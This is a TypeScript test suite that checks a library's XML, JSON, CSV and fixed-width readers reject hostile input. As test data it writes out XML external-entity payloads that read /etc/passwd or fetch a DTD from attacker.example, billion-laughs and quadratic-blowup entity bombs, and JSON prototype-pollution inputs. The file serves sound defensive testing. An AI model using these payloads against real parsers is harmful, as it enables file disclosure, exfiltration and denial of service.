import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Finding } from '../../src/edi/finding.ts';
import { readCsv } from '../../src/formats/csv.ts';
import { readFixedWidth } from '../../src/formats/fixed.ts';
import { identifyFormat } from '../../src/formats/identify.ts';
import { readJson } from '../../src/formats/json.ts';
import { readXml } from '../../src/formats/xml.ts';
import { codes } from './support/trees.ts';

const LAYOUT = { records: [{ name: 'line', fields: [{ name: 'a', from: 1, length: 3 }] }] };

const READERS: Readonly<Record<string, (bytes: Buffer) => readonly Finding[]>> = {
  xml: (bytes) => readXml(bytes).findings,
  json: (bytes) => readJson(bytes).findings,
  csv: (bytes) => {
    const { findings, records } = readCsv(bytes);
    return [...findings, ...[...records].flatMap((record) => record.findings)];
  },
  fixed: (bytes) => {
    const { findings, records } = readFixedWidth(bytes, LAYOUT);
    return [...findings, ...[...records].flatMap((record) => record.findings)];
  },
};

const doctype = (inside: string): string => `<?xml version="1.0"?>\n<!-- --><!DOCTYPE a ${inside}><a>&x;</a>`;

const ENTITIES: Readonly<Record<string, string>> = {
  'an external entity': doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'),
  'an external document type': doctype('SYSTEM "https://attacker.example/a.dtd"'),
  'a parameter entity': doctype('[<!ENTITY % p SYSTEM "https://attacker.example/p"> %p;]'),
  'a billion laughs': doctype(
    `[<!ENTITY x0 "lol">${Array.from({ length: 9 }, (_, index) => `<!ENTITY x${index + 1} "${`&x${index};`.repeat(10)}">`).join('')}]`,
  ),
  'a quadratic blow-up': doctype(`[<!ENTITY x "${'a'.repeat(50_000)}">]`).replace('&x;', '&x;'.repeat(50_000)),
  'a document type in small letters': doctype('').replace('DOCTYPE', 'doctype'),
};

describe('XML that attacks its reader', () => {
  for (const [what, xml] of Object.entries(ENTITIES)) {
    it(`is refused: ${what}`, () => {
      const { root, findings } = readXml(Buffer.from(xml));
      assert.deepEqual([root, codes(findings)], [null, [`FORMAT_DOCTYPE ${xml.search(/<!doctype/i)}`]]);
    });
  }

  it('is refused in UTF-16 as well', () => {
    const xml = Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', 'utf16le');
    assert.deepEqual(codes(readXml(xml).findings), ['FORMAT_DOCTYPE 2']);
  });

  it('is refused where a document type hides within an element', () => {
    assert.deepEqual(codes(readXml(Buffer.from('<a><!DOCTYPE b></a>')).findings), ['FORMAT_DOCTYPE 3']);
  });
});

describe('ten thousand levels', () => {
  const deep = 10_000;
  for (const [what, text, expected] of [
    ['xml', '<a>'.repeat(deep) + '</a>'.repeat(deep), 'FORMAT_TOO_DEEP 192'],
    ['xml', '<a>'.repeat(deep), 'FORMAT_TOO_DEEP 192'],
    ['json', '['.repeat(deep) + ']'.repeat(deep), 'FORMAT_TOO_DEEP 64'],
    ['json', '{"a":'.repeat(deep), 'FORMAT_TOO_DEEP 320'],
  ] as const) {
    it(`are refused: ${text.slice(0, 10)}…`, () => {
      assert.deepEqual(codes(READERS[what]?.(Buffer.from(text)) ?? []), [expected]);
    });
  }
});

describe('prototypes', () => {
  it('are not touched by names of a document', () => {
    readJson(Buffer.from('{"__proto__":{"polluted":"yes"}}'));
    readJson(Buffer.from('{"constructor":{"prototype":{"polluted":"yes"}}}'));
    readXml(Buffer.from('<__proto__ polluted="yes"><polluted>yes</polluted></__proto__>'));
    readCsv(Buffer.from('__proto__,constructor\n1,2'));
    assert.equal(Reflect.get({}, 'polluted'), undefined);
  });
});

describe('damaged files', () => {
  const samples: readonly Buffer[] = [
    Buffer.from('<?xml version="1.0"?><s:a x="1&amp;"><b>é&#65;</b><!-- c --><![CDATA[d]]><?e?></s:a>'),
    Buffer.from('\ufeff<a b="ü">€</a>', 'utf16le'),
    Buffer.from('{"a":[1,-2.5e3,"é\\u00e9",true,null],"b":{"c":"d"}}'),
    Buffer.from('a,b\r\n"1,""é""",2\r\n3,4\r\n'),
    Buffer.from('\ufeffa;b\n1;2'),
  ];
  const change = fc.record({
    sample: fc.constantFrom(...samples),
    cut: fc.nat(),
    changes: fc.array(
      fc.tuple(fc.nat(), fc.oneof(fc.nat({ max: 255 }), fc.constantFrom(...Buffer.from('<>&"\'/!?[]{}:,;\\\n\0')))),
    ),
  });

  it('are read or refused by every reader, never with an exception, with places within the file', () => {
    fc.assert(
      fc.property(change, ({ sample, cut, changes }) => {
        const bytes = Buffer.from(sample.subarray(0, 1 + (cut % (2 * sample.length))));
        for (const [at, byte] of changes) bytes[at % bytes.length] = byte;
        identifyFormat(bytes);
        for (const read of Object.values(READERS)) {
          for (const { position } of read(bytes)) assert.ok(position.byte >= 0 && position.byte <= bytes.length);
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('are refused when they are cut off', () => {
    for (const [read, text] of [
      ['xml', '<a x="1"><b>é</b><!-- c --><![CDATA[d]]></a>'],
      ['json', '{"a":[1,"é",true],"b":{}}'],
    ] as const) {
      const file = Buffer.from(text);
      for (let end = 0; end < file.length; end++) {
        const [finding] = READERS[read]?.(file.subarray(0, end)) ?? [];
        assert.equal(finding?.severity, 'rejected', `${read} cut at ${end}`);
      }
    }
  });
});

describe('the time of reading', () => {
  const cases: readonly (readonly [reader: string, what: string, file: (size: number) => string])[] = [
    ['xml', 'elements', (size) => `<a>${'<b>x</b>'.repeat(size / 8)}</a>`],
    ['xml', 'references', (size) => `<a>${'&amp;'.repeat(size / 5)}</a>`],
    ['xml', 'texts with one reference', (size) => `<a>&amp;${'<b>x</b>'.repeat(size / 8)}</a>`],
    ['xml', 'blanks in a tag', (size) => `<a ${' '.repeat(size)}`],
    ['xml', 'comments that do not end', (size) => `<a>${'<!-- '.repeat(size / 5)}`],
    ['xml', 'one attribute', (size) => `<a b="${'x'.repeat(size)}"/>`],
    ['json', 'a list', (size) => `[${'1,'.repeat(size / 2)}1]`],
    [
      'json',
      'an object',
      (size) => `{${Array.from({ length: 9_000 }, (_, index) => `"${index}":"${'x'.repeat(size / 9_000)}"`).join()}}`,
    ],
    ['json', 'one string', (size) => `"${'x'.repeat(size)}"`],
    ['json', 'escapes', (size) => `"${'\\n'.repeat(size / 2)}"`],
    ['json', 'a number', (size) => '1'.repeat(size)],
    ['csv', 'one column', (size) => 'a\n'.repeat(size / 2)],
    ['csv', 'many columns', (size) => `${','.repeat(9_000)}\n`.repeat(size / 9_000)],
    ['csv', 'a quoted cell', (size) => `a,"${'""'.repeat(size / 2)}"`],
    ['csv', 'quotes that are not closed', (size) => `${'"a'.repeat(size / 2)}`],
    ['fixed', 'one line', (size) => 'é'.repeat(size / 2)],
  ];
  for (const [reader, what, file] of cases) {
    it(`grows with the size: ${reader}, ${what}`, () => {
      const small = elapsed(reader, file(100_000));
      const large = elapsed(reader, file(1_000_000));
      // Ten times the size, thirty times the time: far from the hundred of quadratic work. Small times say nothing.
      assert.ok(large < 500 || large < 30 * small, `${small.toFixed(0)} ms, ${large.toFixed(0)} ms`);
    });
  }
});

function elapsed(reader: string, text: string): number {
  const bytes = Buffer.from(text);
  const start = performance.now();
  READERS[reader]?.(bytes);
  return performance.now() - start;
}
